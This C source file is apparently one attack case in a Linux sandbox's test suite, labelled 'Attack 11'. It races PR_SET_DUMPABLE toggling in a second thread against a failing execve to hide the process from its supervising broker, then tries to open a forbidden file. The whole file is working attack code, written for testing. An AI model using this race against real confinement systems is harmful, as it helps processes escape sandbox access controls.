/* SPDX-License-Identifier: ISC */
/*
 * Attack 11: an execve of another name of the file that runs, which fails; the
 * places that its image has are hidden, either after it or (by another thread)
 * at some moment while it is judged. Then the file is opened.
 *
 * usage: hidden after|during other-name file
 */
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define SECONDS 4
#define EXECS 20

static _Atomic int over;

static void *
hide_and_show(void *p)
{
	(void)p;
	while (!over) {
		(void)prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
		(void)prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	}
	return NULL;
}

/* Its arguments cannot be read. */
static void
fail_to_execute(const char *path)
{
	(void)syscall(SYS_execve, path, (uintptr_t)1, NULL);
}

static int
try_to_open(const char *path)
{
	return open(path, O_RDONLY | O_CLOEXEC) == -1 ? errno : 0;
}

/* The broker kills what it cannot see: so each try is a process's. */
static int
try_during(const char *other, const char *path)
{
	pthread_t thread;
	int i;

	if (pthread_create(&thread, NULL, hide_and_show, NULL) != 0)
		return errno;
	for (i = 0; i < EXECS; i++)
		fail_to_execute(other);
	over = 1;
	(void)pthread_join(thread, NULL);
	(void)prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	return try_to_open(path);
}

static int
try_often(const char *other, const char *path)
{
	time_t end = time(NULL) + SECONDS;
	int status = 0;
	pid_t pid;

	while (time(NULL) < end) {
		pid = fork();
		if (pid == 0)
			_exit(try_during(other, path) == 0 ? 0 : 1);
		if (waitpid(pid, &status, 0) == pid && WIFEXITED(status) &&
		    WEXITSTATUS(status) == 0)
			return 0;
	}
	return EACCES;
}

int
main(int argc, char *argv[])
{
	int error;

	if (argc < 4 || try_to_open(argv[3]) == 0)
		return 1;
	if (strcmp(argv[1], "during") == 0) {
		error = try_often(argv[2], argv[3]);
	} else {
		fail_to_execute(argv[2]);
		(void)prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
		error = try_to_open(argv[3]);
	}
	printf("%s\n", error == 0 ? "opened" : strerrorname_np(error));
	return 0;
}
